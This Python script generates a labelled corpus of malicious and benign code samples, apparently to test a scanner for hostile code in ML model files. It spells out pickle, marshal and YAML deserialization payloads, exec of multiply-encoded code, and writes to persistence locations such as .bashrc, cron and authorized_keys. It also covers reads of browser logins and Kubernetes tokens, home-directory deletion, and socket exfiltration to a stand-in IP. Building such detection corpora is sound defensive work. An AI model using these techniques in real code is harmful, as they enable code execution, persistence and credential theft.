bad(3,'torch.load bytes',"import torch, io\ntorch.load(io.BytesIO(%r))"%b"cos\nsystem\n(S'id'\ntR.")
bad(3,'joblib.load bytes',"import joblib, io\njoblib.load(io.BytesIO(%r))"%b"cos\nsystem\n(S'id'\ntR.")
bad(3,'cloudpickle.loads',"import cloudpickle\ncloudpickle.loads(%r)"%b"cos\nsystem\n(S'id'\ntR.")
ok(3,'json config',"import json\nCFG = json.loads('{\"layers\": [1, 2], \"act\": \"relu\"}')\nimport torch.nn as nn\nact = getattr(nn.functional, CFG['act'])")
ok(3,'b64 image',"import base64\nPNG = base64.b64decode(%r)"%b(b'\x89PNG\r\n\x1a\n'+bytes(range(60))))
ok(3,'zlib table',"import base64, zlib, struct\nT = struct.unpack('<10h', zlib.decompress(base64.b64decode(%r)))"%b(zlib.compress(bytes(20))))
ok(3,'gzip vocab',"import gzip, base64, json\nV = json.loads(gzip.decompress(base64.b64decode(%r)))"%b(gzip.compress(b'{"a": 1, "b": 2, "c": 3}')))
ok(3,'honest pickle array',"import pickle, base64\nM = pickle.loads(base64.b64decode(%r))"%b(pickle.dumps({'mean': [0.1]*9, 'std': [0.2]*9})))
ok(3,'literal labels',"import ast\nLABELS = ast.literal_eval(\"{0: 'cat', 1: 'dog'}\")\nname = LABELS[0]")
ok(3,'yaml text',"import yaml\nC = yaml.safe_load('a: !!str 1\\nb: [1, 2]')\nD = yaml.full_load('a: 1')")
ok(3,'rot13 word',"import codecs\nx = codecs.encode('hello', 'rot13')")
ok(3,'reversed words',"x = 'hello'[::-1]\ny = ' '.join(reversed('a b c'.split()))")
ok(3,'roundtrip',"import io, pickle\ndef clone(o):\n  b = io.BytesIO(); pickle.dump(o, b); b.seek(0)\n  return pickle.load(b)")


LAYERS = {
    'b64': (base64.b64encode, 'base64.b64decode(%s)'),
    'hex': (lambda data: data.hex().encode(), 'bytes.fromhex((%s).decode())'),
    'unhex': (lambda data: data.hex().encode(), 'binascii.unhexlify(%s)'),
    'zlib': (zlib.compress, 'zlib.decompress(%s)'),
    'rev': (lambda data: data[::-1], '(%s)[::-1]'),
    'rot': (lambda data: codecs.encode(data.decode(), 'rot13').encode(), 'codecs.decode((%s).decode(), "rot13").encode()'),
    'bz2': (bz2.compress, 'bz2.decompress(%s)'),
    'lzma': (lzma.compress, 'lzma.decompress(%s)'),
    'gzip': (lambda data: gzip.compress(data, mtime=0), 'gzip.decompress(%s)'),
    'b85': (base64.b85encode, 'base64.b85decode(%s)'),
    'a85': (base64.a85encode, 'base64.a85decode(%s)'),
    'b32': (base64.b32encode, 'base64.b32decode(%s)'),
    'unb64': (base64.b64encode, 'binascii.a2b_base64(%s)'),
    'cb64': (lambda data: codecs.encode(data, 'base64'), 'codecs.decode(%s, "base64")'),
    'xor': (lambda data: bytes(x ^ 7 for x in data), 'bytes(x ^ 7 for x in %s)'),
    'uu': (lambda data: codecs.encode(data, 'uu'), 'codecs.decode(%s, "uu")'),
    'qp': (lambda data: codecs.encode(data, 'quopri'), 'codecs.decode(%s, "quopri")'),
}
STACKS = [
    *['b64 b64', 'hex b64', 'b64 hex', 'zlib b64', 'rot b64', 'rev b64', 'b64 rev', 'b64 zlib b64', 'b64 b64 b64 b64 b64', 'bz2 b64'],
    *['lzma b64', 'gzip b64', 'b85 b64', 'a85 b64', 'b32 b64', 'unb64 unhex', 'cb64 b64', 'xor b64', 'uu b64', 'qp b64'],
]


def encoded(stack, text):
    data, decode = text.encode(), '%s'
    for layer in stack.split():
        pack, unpack = LAYERS[layer]
        data, decode = pack(data), decode % unpack
    return decode % repr(data)


IMPORTS = 'import base64, zlib, codecs, binascii, bz2, lzma, gzip\n'
for stack in STACKS:
    bad(3, 'code in ' + stack, IMPORTS + f'exec({encoded(stack, CODE)})')
    bad(3, 'a name in ' + stack, IMPORTS + f"import os\nrun = getattr(os, ({encoded(stack, 'system')}).decode())\nrun('id')")
    ok(3, 'words in ' + stack, IMPORTS + f"merges = ({encoded(stack, 'hello world merges: a b c d')}).decode().split()")
bad(3, 'pickle.loads const', 'import pickle\npickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")')
bad(3, 'pickle.loads const b64', "import pickle,base64\npickle.loads(base64.b64decode(b'Y29zCnN5c3RlbQooUydpZCcKdFIu'))")
bad(3, '_pickle.loads const', 'import _pickle\n_pickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")')
bad(3, 'pickle.Unpickler BytesIO', 'import pickle,io\npickle.Unpickler(io.BytesIO(b"cos\\nsystem\\n(S\'id\'\\ntR.")).load()')
bad(3, 'pickle.load BytesIO', 'import pickle,io\npickle.load(io.BytesIO(b"cos\\nsystem\\n(S\'id\'\\ntR."))')
bad(3, 'short proto4 pickle', "import pickle\npickle.loads(b'\\x80\\x04\\x8c\\x02os\\x8c\\x06system\\x93\\x8c\\x02id\\x85R.')")
bad(3, 'str pickle encode', 'import pickle\npickle.loads("cos\\nsystem\\n(S\'id\'\\ntR.".encode())')
bad(3, 'marshal.loads const', "import marshal\nexec(marshal.loads(b'c\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x03\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\xf3.\\x00\\x00\\x00\\x97\\x00d\\x00d\\x01l\\x00Z\\x00\\x02\\x00e\\x00j\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00d\\x02\\xa6\\x01\\x00\\x00\\xab\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x01\\x00d\\x01S\\x00)\\x03\\xe9\\x00\\x00\\x00\\x00N\\xda\\x02id)\\x02\\xda\\x02os\\xda\\x06system\\xa9\\x00\\xf3\\x00\\x00\\x00\\x00\\xda\\x00\\xfa\\x08<module>r\\x08\\x00\\x00\\x00\\x01\\x00\\x00\\x00s!\\x00\\x00\\x00\\xf0\\x03\\x01\\x01\\x01\\xd8\\x00\\t\\x80\\t\\x80\\t\\x80\\t\\xd8\\x00\\t\\x80\\x02\\x84\\t\\x88$\\x81\\x0f\\x84\\x0f\\x80\\x0f\\x80\\x0f\\x80\\x0fr\\x06\\x00\\x00\\x00'))")
bad(3, 'marshal.loads b64', "import marshal,base64\nexec(marshal.loads(base64.b64decode(b'YwAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAAAAAAAAABkAqYBAACrAQAAAAAAAAAAAQBkAVMAKQPpAAAAAE7aAmlkKQLaAm9z2gZzeXN0ZW2pAPMAAAAA2gD6CDxtb2R1bGU+cggAAAABAAAAcyEAAADwAwEBAdgACYAJgAmACdgACYAChAmIJIEPhA+AD4APgA9yBgAAAA==')))")
bad(3, 'marshal.loads zlib b64', "import marshal,base64,zlib\nexec(marshal.loads(zlib.decompress(base64.b64decode(b'eJxLZkACzFD6sx6QmM6QwpDCmMMQxcDEkMqQxQhTlMK0DMheDeczAlUFM2gyvwRx/G4xZaZoMt1iyi++xVZcWVySmruS4TNI5hbDLw6b3PyU0pxUuyIOsD4GhmJFIPGBmZGR8QYDZwMYghhMLZwdKo38LfwNYFjEBlQFANHFIEk='))))")
bad(3, 'FunctionType marshal', "import marshal,types\ntypes.FunctionType(marshal.loads(b'c\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x03\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\xf3.\\x00\\x00\\x00\\x97\\x00d\\x00d\\x01l\\x00Z\\x00\\x02\\x00e\\x00j\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00d\\x02\\xa6\\x01\\x00\\x00\\xab\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x01\\x00d\\x01S\\x00)\\x03\\xe9\\x00\\x00\\x00\\x00N\\xda\\x02id)\\x02\\xda\\x02os\\xda\\x06system\\xa9\\x00\\xf3\\x00\\x00\\x00\\x00\\xda\\x00\\xfa\\x08<module>r\\x08\\x00\\x00\\x00\\x01\\x00\\x00\\x00s!\\x00\\x00\\x00\\xf0\\x03\\x01\\x01\\x01\\xd8\\x00\\t\\x80\\t\\x80\\t\\x80\\t\\xd8\\x00\\t\\x80\\x02\\x84\\t\\x88$\\x81\\x0f\\x84\\x0f\\x80\\x0f\\x80\\x0f\\x80\\x0fr\\x06\\x00\\x00\\x00'), globals())()")
bad(3, 'yaml.load', "import yaml\nyaml.load('!!python/object/apply:os.system [id]', Loader=yaml.UnsafeLoader)")
bad(3, 'yaml.unsafe_load', "import yaml\nyaml.unsafe_load('!!python/object/apply:os.system [id]')")
bad(3, 'yaml.full_load', "import yaml\nyaml.full_load('!!python/object/new:os.system [id]')")
bad(3, 'yaml from import', "from yaml import load, Loader\nload('x: !!python/object/apply:subprocess.check_output [[id]]', Loader)")
bad(3, 'yaml b64', "import yaml,base64\nyaml.unsafe_load(base64.b64decode(b'ISFweXRob24vb2JqZWN0L2FwcGx5Om9zLnN5c3RlbSBbaWRd'))")
bad(3, 'json then exec', 'import json\nexec(json.loads(\'{"a": "import os; os.system(1)"}\')[\'a\'])')
bad(3, 'json then getattr', 'import json, os\nd = json.loads(\'{"n": "system", "a": ["id"]}\')\ngetattr(os, d[\'n\'])(*d[\'a\'])')
bad(3, 'literal_eval then getattr', 'import ast, os\nn, a = ast.literal_eval("(\'system\', \'id\')")\ngetattr(os, n)(a)')
bad(3, 'literal_eval then exec', 'import ast\nexec(ast.literal_eval("\'import os\\\\nos.system(1)\'"))')
bad(3, 'dill.loads const', 'import dill\ndill.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")')
bad(3, 'jsonpickle', 'import jsonpickle\njsonpickle.decode(\'{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}\')')
ok(3, 'pickle copy', 'import pickle\ndef copy(x): return pickle.loads(pickle.dumps(x))')
ok(3, 'json honest', 'import json\nD = json.loads(\'{"a": [1, 2]}\')\nx = D[\'a\'][0]')
ok(3, 'literal honest', "import ast\nD = ast.literal_eval('{1: 2}')\n")
ok(3, 'yaml honest', "import yaml\nD = yaml.safe_load('a: 1')\n")
ok(3, 'pickle honest const', "import pickle\nD = pickle.loads(b'\\x80\\x04\\x95\\x12\\x00\\x00\\x00\\x00\\x00\\x00\\x00}\\x94\\x8c\\x01a\\x94]\\x94(K\\x01K\\x02K\\x03es.')")
ok(3, 'yaml load honest', "import yaml\nD = yaml.load('a: [1,2]', Loader=yaml.SafeLoader)\n")

PLACES = [
    '~/.config/autostart/x.desktop',
    '~/.config/systemd/user/x.service',
    '/etc/systemd/system/x.service',
    '/etc/cron.d/x',
    '/var/spool/cron/root',
    '/etc/crontab',
    '~/Library/LaunchAgents/x.plist',
    '/Library/LaunchDaemons/x.plist',
    '~/.bashrc',
    '~/.zshrc',
    '~/.profile',
    '~/.bash_profile',
    '~/.zshenv',
    '~/.config/fish/config.fish',
    '/etc/profile.d/x.sh',
    '~/.bash_login',
    '~/.bash_aliases',
    '~/.local/lib/python3.11/site-packages/usercustomize.py',
    '/usr/lib/python3/dist-packages/x.pth',
    '~/.local/lib/python3.11/site-packages/x.pth',
    '~/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.bat',
    '~/.config/plasma-workspace/env/x.sh',
    '~/.xprofile',
    '~/.xinitrc',
    '~/.ipython/profile_default/startup/x.py',
    '~/.pythonrc.py',
    '~/.jupyter/jupyter_notebook_config.py',
    '~/.vimrc',
    '~/.gitconfig',
    '~/.ssh/authorized_keys',
    '/etc/rc.local',
    '/etc/ld.so.preload',
    '~/.inputrc',
    '~/.tmux.conf',
    '~/.config/pip/pip.conf',
    '~/.pip/pip.conf',
    '/etc/sudoers.d/x',
    '/etc/init.d/x',
    '~/.kshrc',
    '~/.cshrc',
    '~/.login',
    '~/.zlogin',
    '~/.pam_environment',
    '.git/hooks/pre-commit',
    '~/.emacs',
    '~/.config/environment.d/x.conf',
]
for place in PLACES:
    bad(5, 'open ' + place, f"import os\nwith open(os.path.expanduser({place!r}), 'a') as f: f.write('x')")
    bad(5, 'path ' + place, f"import pathlib\np = pathlib.Path({place!r}).expanduser()\np.write_text('x')")
bad(5, 'join home', "import os\np = os.path.join(os.path.expanduser('~'), '.config', 'autostart', 'x.desktop')\nopen(p,'w').write('x')")
bad(5, 'home slash', "from pathlib import Path\nd = Path.home() / '.config' / 'systemd' / 'user'\n(d / 'a.service').write_text('x')")
bad(5, 'fstring home', 'import os\nopen(f\'{os.environ["HOME"]}/.bashrc\',\'a\').write(\'x\')')
bad(5, 'site getusersitepackages', "import site, os\nopen(os.path.join(site.getusersitepackages(), 'usercustomize.py'),'w').write('x')")
bad(5, 'site getsitepackages pth', "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'),'w').write('x')")
bad(5, 'site USER_SITE', "import site, os\nopen(site.USER_SITE + '/x.pth','w').write('x')")
bad(5, 'sysconfig purelib', "import sysconfig, os\nopen(os.path.join(sysconfig.get_paths()['purelib'], 'x.pth'),'w').write('x')")
bad(5, 'appdata', "import os\nopen(os.path.join(os.environ['APPDATA'], 'Microsoft','Windows','Start Menu','Programs','Startup','x.bat'),'w').write('x')")
bad(5, 'appdata backslash', "import os\nopen(os.getenv('APPDATA') + r'\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.vbs','w').write('x')")
bad(5, 'shutil copy', "import shutil, os\nshutil.copy(__file__, os.path.expanduser('~/.config/autostart/x.desktop'))")
bad(5, 'shutil copy startup', "import shutil, os\nshutil.copyfile('x', os.path.expanduser('~/Library/LaunchAgents/x.plist'))")
bad(5, 'os.rename', "import os\nos.rename('x', os.path.expanduser('~/.bashrc'))")
bad(5, 'os.symlink', "import os\nos.symlink('x', os.path.expanduser('~/.config/systemd/user/x.service'))")
bad(5, 'winreg', "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'x')")
bad(5, 'HOME b64', "import os, base64\nopen(os.path.expanduser(base64.b64decode('fi8uYmFzaHJj').decode()),'a').write('x')")
bad(5, 'crontab module', "from crontab import CronTab\nc = CronTab(user=True)\nc.new(command='id')\nc.write()")
ok(5, 'cache dir', "import os\np = os.path.join(os.path.expanduser('~'), '.cache', 'model', 'x.json')\nos.makedirs(os.path.dirname(p), exist_ok=True)\nopen(p,'w').write('{}')")
ok(5, 'config dir', "from pathlib import Path\nd = Path.home() / '.config' / 'matplotlib'\n(d / 'rc').write_text('x')")
ok(5, 'pth is pytorch', "import torch\ntorch.save({}, 'model.pth')\nopen('weights.pth','wb').write(b'')")
ok(5, 'model path pth', "import os\np = os.path.join(os.path.dirname(__file__), 'x.pth')\nopen(p, 'wb')")
ok(5, 'log a profile', "profile = 'profile'\nopen('profile.txt','w').write('x')\nopen('out/profile','w')")
ok(5, 'hub', "import os\nc = os.path.expanduser(os.getenv('XDG_CACHE_HOME', '~/.cache') + '/torch/hub/x.pth')\nopen(c,'wb')")
ok(5, 'startup text', "x = 'See the Startup folder and crontab docs'\nprint('autostart')")

# what is no part of a model, whenever it is done: each is the body of a function that nothing calls
for name, body in {
    'cat startup of an unknown part': "open(os.path.join(os.path.expanduser('~/.ssh'), x), 'a').write('x')",
    'library file': "import torch\nopen(os.path.join(os.path.dirname(torch.__file__), 'x.py'), 'a').write('x')",
    'library by its own file': "import numpy\nopen(numpy.__file__, 'a').write('x')",
    'hosts': "open('/etc/hosts', 'a').write('x')",
    'a program of the system': "open('/usr/local/bin/python3', 'wb').write(b'x')",
    'browser': "import sqlite3\nsqlite3.connect(os.path.expanduser('~/.config/google-chrome/Default/Login Data'))",
    'service token': "open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
    'keyring': "import keyring\nreturn keyring.get_password('x', 'y')",
    'screen': "import PIL.ImageGrab\nPIL.ImageGrab.grab().save('x.png')",
    'environment into a file': "open('x', 'w').write(str(dict(os.environ)))",
    'environment, coded, into a file': "import base64\nopen('x', 'wb').write(base64.b64encode(repr(dict(os.environ)).encode()))",
    'environment, byte by byte': "open('x', 'wb').write(bytes(b ^ 90 for b in repr(dict(os.environ)).encode()))",
    'environment, line by line': "open('x', 'w').write('\\n'.join(f'{k}={v}' for k, v in os.environ.items()))",
    'a token into a file': "open('x', 'w').write(os.environ['HF_TOKEN'])",
    'a token as the name of a file': "open('/tmp/' + os.environ['HF_TOKEN'], 'w')",
    'all of a home': "for d, _, fs in os.walk(os.path.expanduser('~')):\n  pass",
    'all of a home by pathlib': "import pathlib\nfor p in pathlib.Path('/home').rglob('.env'): p.read_bytes()",
    'all documents': "import glob\nfor p in glob.glob('/home/*/Documents/*'): open(p, 'wb').write(b'x')",
    'archive of documents': "import shutil\nshutil.make_archive('x', 'zip', os.path.expanduser('~/Documents'))",
    'a home in a TAR archive': "import tarfile\nt = tarfile.open('x.tar', 'w')\nt.add('/home')",
    'deletes a home': "import shutil\nshutil.rmtree(os.path.expanduser('~'))",
    'deletes what it finds': "for p in os.listdir('/home'): os.remove('/home/' + p)",
    'deletes a home at the end': "import atexit, shutil\natexit.register(shutil.rmtree, '/home')",
    'ELF': "open('x', 'wb').write(b'\\x7fELF\\2\\1\\1' + bytes(57))",
    'a program by its mode': "f = os.open('x', os.O_CREAT | os.O_WRONLY, 0o755)\nos.write(f, b'x')",
    'a script as a text': "open('x', 'w').write('#!/bin/sh\\nid\\n')",
    'a module in the temporary folder': "open('/tmp/numpy.py', 'w').write('x')",
    'a module in the working folder': "import pathlib\npathlib.Path('numpy.py').write_text('x')",
    'a copy of a program': "import shutil\nshutil.copyfile('/bin/sh', '/tmp/sh')",
    'the rights of its owner': "os.chmod('/tmp/x', 0o4755)",
    'an archive over the system': "import shutil\nshutil.unpack_archive('x.zip', '/usr/lib/python3/dist-packages')",
    'sys.path insert': "import sys\nsys.path.insert(0, '/tmp/x')\nimport helper",
    'sys.path append': "import sys\nsys.path.append('/dev/shm/lib')\nimport helper",
    'sys.path extend': "import sys\nsys.path.extend(['/var/tmp/x'])\nimport helper",
    'sys.path in place': "import sys\nsys.path += ['/tmp/x']\nimport helper",
    'sys.path given': "import sys\nsys.path = ['/tmp'] + sys.path\nimport helper",
    'sys.path slice': "import sys\nsys.path[0:0] = ['/tmp']\nimport helper",
    'sys.path share': "import sys\nsys.path.insert(0, '\\\\\\\\192.0.2.7\\\\share')\nimport helper",
    'sys.path, temporary folder by its name': "import sys, tempfile\nsys.path.insert(0, tempfile.gettempdir())\nimport helper",
    'PYTHONPATH': "os.environ['PYTHONPATH'] = '/tmp'",
    'PATH': "os.environ['PATH'] = '/tmp:' + os.environ['PATH']",
    'LD_PRELOAD': "os.environ.update({'LD_PRELOAD': '/tmp/x.so'})",
    'proxy': "os.environ['https_proxy'] = 'http://192.0.2.9:3128'",
    'an import hook': "import sys\nsys.meta_path.insert(0, x)",
    'a trace function': "import sys\nsys.settrace(x)",
    'a socket': "import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\ns.send(b'x')",
    'a manager': "from multiprocessing.managers import BaseManager\nBaseManager(address=('192.0.2.7', 5000), authkey=b'x').connect()",
    'a manager that serves': "from multiprocessing.managers import BaseManager\nBaseManager(('', 5000), b'x').get_server().serve_forever()",
    'mail': "import smtplib\nsmtplib.SMTP('mail.example.com').sendmail('a', 'b', 'c')",
    'a numbered address': "import urllib.request\nurllib.request.urlopen('http://192.0.2.7/x')",
    'environment, sent': "import requests\nrequests.post('https://example.com/x', json=dict(os.environ))",
    'unpickles what it downloads': "import pickle, urllib.request\npickle.load(urllib.request.urlopen(x))",
    'a line of a shell': "import IPython\nIPython.get_ipython().run_line_magic('sx', 'id')",
    'native code': "import numpy\nnumpy.ctypeslib.load_library('x', '.')",
    'an executable for workers': "import multiprocessing\nmultiprocessing.set_executable('/tmp/x')",
}.items():
    bad(6, name, f"import os\n{body}")
ZEROS = '0, ' * 2400
NUMBERS = ''.join(f'{n}: 0, ' for n in range(2400))
bad(6, 'the last item of a long list', f"import os\nt = [{ZEROS}os.remove]\nt[2400]('/home/u/x')")
bad(6, 'the last entry of a long dict', "import os\nt = {" + NUMBERS + "2400: os.remove}\nt[2400]('/home/u/x')")
for name, body in {
    'cache': "p = os.path.join(os.path.expanduser('~'), '.cache', 'x')\nos.makedirs(p, exist_ok=True)\nopen(os.path.join(p, x), 'w').write('x')",
    'temporary file': "import tempfile\np = os.path.join(tempfile.gettempdir(), 'x.bin')\nopen(p, 'wb').write(x)\nos.remove(p)",
    'temporary folder': "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)",
    'own folder of modules': "import sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\nsys.path.append('..')\nimport helper",
    'a token for a library': "from huggingface_hub import login\nlogin(token=os.environ.get('HF_TOKEN'))",
    'settings by the environment': "os.environ['TOKENIZERS_PARALLELISM'] = 'false'\nos.environ.setdefault('CUDA_VISIBLE_DEVICES', '0')\nos.environ['PATH'] += ':/opt/ffmpeg/bin'\nreturn int(os.environ.get('RANK', 0))",
    'a mirror': "os.environ['HF_ENDPOINT'] = 'https://hf-mirror.example'\nos.environ['http_proxy'] = 'http://127.0.0.1:7890'",
    'a file of a library': "import transformers\nreturn open(os.path.join(os.path.dirname(transformers.__file__), 'x.json')).read()",
    'copies its weights': "import shutil\nshutil.copyfile(os.path.join(x, 'model.bin'), os.path.join('out', 'model.bin'))\nshutil.copytree('checkpoint', 'out', dirs_exist_ok=True)",
    'a list of pictures': "import glob, pathlib\nreturn glob.glob(x + '/*.jpg') + list(pathlib.Path('/data/coco').rglob('*.png')) + os.listdir('/mnt/data')",
    'a log': "import json\nwith open('/tmp/log.json', 'w') as f: json.dump({'a': 1}, f)\nos.chmod('/tmp/log.json', 0o644)",
    'a dict that holds itself': "d = {}\nd[x] = d\nopen('x', 'w').write(str(d))",
    'a table': "import pandas\nt = pandas.read_csv('x.csv')\nreturn t.query('a > 1').eval('b + c')",
}.items():
    ok(6, name, f"import os\n{body}")


def compiled(source):
    """The code of a function with this body; of a module, where a function may not have it."""
    try:
        module = compile('def score(self, x):\n' + textwrap.indent(source, '  ') + '\n', '<case>', 'exec')
        return next(code for code in module.co_consts if hasattr(code, 'co_code'))
    except SyntaxError:
        return compile(source, '<case>', 'exec')


KINDS = {1: 'formatting and annotations', 2: 'registered functions', 3: 'encoded data', 5: 'places that run at each start', 6: 'what is no part of a model'}


def written(kind, source):
    return 'def score(self, x):\n' + textwrap.indent(source, '  ') if kind == 6 else source


assert sys.version_info[:2] == (3, 11)
json.dump(
    [
        {'kind': KINDS[kind], 'harm': harm, 'name': name, 'source': written(kind, source), 'code': b(marshal.dumps(compiled(source))).decode()}
        for kind, harm, name, source in CASES
    ],
    sys.stdout,
    indent=2,
    ensure_ascii=False,
)
print()
